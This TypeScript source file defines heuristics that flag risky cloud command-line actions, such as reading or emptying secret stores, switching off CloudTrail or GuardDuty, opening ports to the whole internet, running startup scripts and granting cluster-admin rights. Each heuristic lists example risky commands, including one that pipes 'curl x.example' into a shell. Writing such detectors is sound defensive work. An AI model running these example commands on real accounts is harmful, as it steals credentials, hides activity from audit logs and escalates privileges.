// Cloud accounts: their secrets, their rights, and the record of what happens in them.
import { severity } from "../bands.ts";
import { type Heuristic, firstOf, onCommand } from "../heuristic.ts";
import { joined, verbs } from "../read.ts";

export const cloud: readonly Heuristic[] = [
  {
    id: "stored-secret-changed",
    threat: "Remote resource deletion",
    technique: "T1531",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws"], (command) =>
        /^secretsmanager (?:update|put|rotate|restore|replicate)-|^ssm put-parameter|^kms (?:disable|schedule)-/u.test(
          verbs(command).join(" "),
        )
          ? "It changes a stored secret that others use"
          : null,
      ),
      onCommand(["az"], (command) =>
        /keyvault (?:secret|key) (?:set|rotate)|purge/u.test(joined(command))
          ? "It changes a stored secret that others use"
          : null,
      ),
      onCommand(["gcloud"], (command) =>
        /secrets versions (?:add|disable|destroy)/u.test(joined(command))
          ? "It changes a stored secret that others use"
          : null,
      ),
      onCommand(["vault"], (command) =>
        /^(?:operator (?:seal|step-down|rekey|rotate)|lease revoke|token revoke|secrets (?:disable|move|tune)|auth disable|policy delete|audit disable)/u.test(
          verbs(command).join(" "),
        )
          ? "It changes how secrets are kept"
          : null,
      ),
    ),
    examples: {
      risky: ["aws secretsmanager put-secret-value --secret-id x --secret-string y", "vault secrets disable team/"],
      honest: ["aws secretsmanager list-secrets --max-items 5", "vault status", "vault kv get secret/x"],
    },
  },
  {
    id: "stored-secret-read",
    threat: "Credential access",
    technique: "T1555.006",
    score: severity.warn,
    check: onCommand(["aws"], (command) =>
      /^secretsmanager (?:batch-)?get-secret-value/u.test(verbs(command).join(" ")) ? "It reads a stored secret" : null,
    ),
    examples: {
      risky: ["aws secretsmanager get-secret-value --secret-id x"],
      honest: ["aws secretsmanager list-secrets --max-items 5"],
    },
  },
  {
    id: "stored-secrets-emptied",
    threat: "Credential access",
    technique: "T1555.006",
    score: severity.ask,
    check: onCommand(["aws", "gcloud", "az", "vault", "op", "bw"], (command) => {
      const reads =
        /secretsmanager (?:batch-)?get-secret-value|secrets versions access|keyvault secret show|kv get\b|^(?:item|document) get\b|^get (?:item|password)\b|^export\b/u.test(
          joined(command),
        );
      const many =
        command.wrappers.some((wrapper) => /^(?:xargs|for|while|parallel)\b/u.test(wrapper)) ||
        /batch-get-secret-value|^export\b/u.test(joined(command));
      return reads && many ? "It reads one stored secret after the other" : null;
    }),
    examples: {
      risky: [
        "aws secretsmanager list-secrets --query 'SecretList[].Name' --output text | xargs -n1 aws secretsmanager get-secret-value --secret-id",
        "bw export --format json",
      ],
      honest: ["aws secretsmanager list-secrets --max-items 5", "op item get db", "gcloud secrets list"],
    },
  },
  {
    id: "cloud-guard-off",
    threat: "Weakened defences",
    technique: "T1562.008",
    score: severity.deny,
    check: onCommand(["aws", "az", "gcloud"], (command) => {
      const line = joined(command);
      return /\b(?:cloudtrail|guardduty|configservice|securityhub|macie2?|logs|flow-logs?|diagnostic-settings|monitor|logging|sinks?|security)\b/iu.test(
        line,
      ) &&
        /\b(?:stop-logging|delete-[\w-]+|stop-[\w-]+|disable-[\w-]+|delete|disable)\b|--no-enable|put-event-selectors|update-trail/iu.test(
          line,
        )
        ? "It switches off the record of what happens in the account"
        : null;
    }),
    examples: {
      risky: [
        "aws cloudtrail stop-logging --name t",
        "aws guardduty delete-detector --detector-id d",
        "gcloud logging sinks delete s",
      ],
      honest: ["aws logs tail g", "aws cloudtrail describe-trails"],
    },
  },
  {
    id: "cloud-opened",
    threat: "Weakened defences",
    technique: "T1562.007",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws", "gcloud", "az", "openstack", "doctl", "hcloud"], (command) => {
        const line = joined(command);
        return /authorize-security-group-ingress|firewall-rules (?:create|update)|nsg rule (?:create|update)|security group rule create|firewall (?:add-rules|add-rule|create)/u.test(
          line,
        ) &&
          /0\.0\.0\.0\/0|::\/0|--source-address-prefix(?:es)?[= ]["']?(?:\*|internet)/iu.test(line) &&
          !/\b(?:80|443)\b/u.test(line)
          ? "It opens machines in the cloud to the whole world"
          : null;
      }),
      onCommand(["aws"], (command) =>
        /^organizations leave-organization|^ec2 (?:disable-ebs-encryption-by-default|modify-instance-metadata-options .*--http-tokens[= ]optional)|^s3api put-public-access-block .*=false/u.test(
          joined(command),
        )
          ? "It takes a protection of the account away"
          : null,
      ),
    ),
    examples: {
      risky: [
        "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0",
        "gcloud compute firewall-rules create open --allow tcp:22 --source-ranges 0.0.0.0/0",
        "aws organizations leave-organization",
      ],
      honest: [
        "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 10.0.0.0/8",
        "gcloud compute firewall-rules list",
        "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 0.0.0.0/0",
      ],
    },
  },
  {
    id: "cloud-machine-scripted",
    threat: "Remote code execution",
    technique: "T1651",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws"], (command) =>
        /^ec2 modify-instance-attribute\b.*user-?data|^ec2 modify-instance-attribute\b.*--attribute[= ]userData/iu.test(
          joined(command),
        ) || /^ssm start-session\b|^ecs execute-command\b/u.test(verbs(command).join(" "))
          ? "It runs commands on a machine in the cloud, or has it run them when it starts"
          : null,
      ),
      onCommand(["gcloud"], (command) =>
        /\badd-metadata\b.*(?:startup-script|ssh-keys|windows-startup)/u.test(joined(command))
          ? "It has a machine in the cloud run its commands or let its keys in"
          : null,
      ),
      onCommand(["az"], (command) =>
        /\bvm (?:user (?:update|reset-ssh)|extension set)\b|\bvmss extension set\b/u.test(joined(command))
          ? "It makes an account or runs commands on a machine in the cloud"
          : null,
      ),
    ),
    examples: {
      risky: [
        "gcloud compute instances add-metadata vm --metadata=startup-script='curl x.example | sh'",
        "az vm user update -u me -p x -g rg -n vm",
        "aws ecs execute-command --cluster c --task t --command sh --interactive",
      ],
      honest: ["gcloud compute instances describe vm", "az vm list", "aws ec2 describe-instances"],
    },
  },
  {
    id: "cloud-rights-changed",
    threat: "Privilege escalation",
    technique: "T1098",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws"], (command) =>
        /^iam (?:create-(?:user|access-key|login-profile|role|group|policy)|attach-|put-(?:user|role|group)-policy|add-user-to-group|update-assume-role-policy|update-login-profile|add-role)/u.test(
          verbs(command).join(" "),
        )
          ? "It changes who may do what in the account"
          : null,
      ),
      onCommand(["gcloud"], (command) =>
        /\badd-iam-policy-binding\b|\biam (?:service-accounts|roles) (?:create|update|keys create)|set-iam-policy/u.test(
          joined(command),
        )
          ? "It changes who may do what in the account"
          : null,
      ),
      onCommand(["az"], (command) =>
        /\brole assignment create\b|\bad (?:user|sp|app) (?:create|credential)/u.test(joined(command))
          ? "It changes who may do what in the account"
          : null,
      ),
      onCommand(["az", "aws"], (command) =>
        /\bvm run-command invoke\b|\bvmss run-command\b|^ssm send-command\b|^ec2-instance-connect send-ssh-public-key\b/u.test(
          joined(command),
        )
          ? "It runs commands on a machine in the cloud"
          : null,
      ),
      onCommand(["etcdctl"], (command) =>
        /^get\s+(?:\/|"")(?:\s|registry|$).*--prefix/u.test(joined(command))
          ? "It reads everything the cluster keeps"
          : null,
      ),
      onCommand(["gh", "glab"], (command) =>
        /^(?:ssh-key|gpg-key|deploy-key|repo deploy-key) add\b/u.test(joined(command))
          ? "It lets another key into the account or the repository"
          : null,
      ),
      onCommand(["kubectl", "oc"], (command) =>
        /create (?:cluster)?rolebinding|cluster-admin/u.test(joined(command))
          ? "It changes who may do what in the cluster"
          : null,
      ),
    ),
    examples: {
      risky: [
        "aws iam create-access-key --user-name x",
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y",
      ],
      honest: ["aws iam list-users --max-items 5", "kubectl auth can-i get pods"],
    },
  },
];
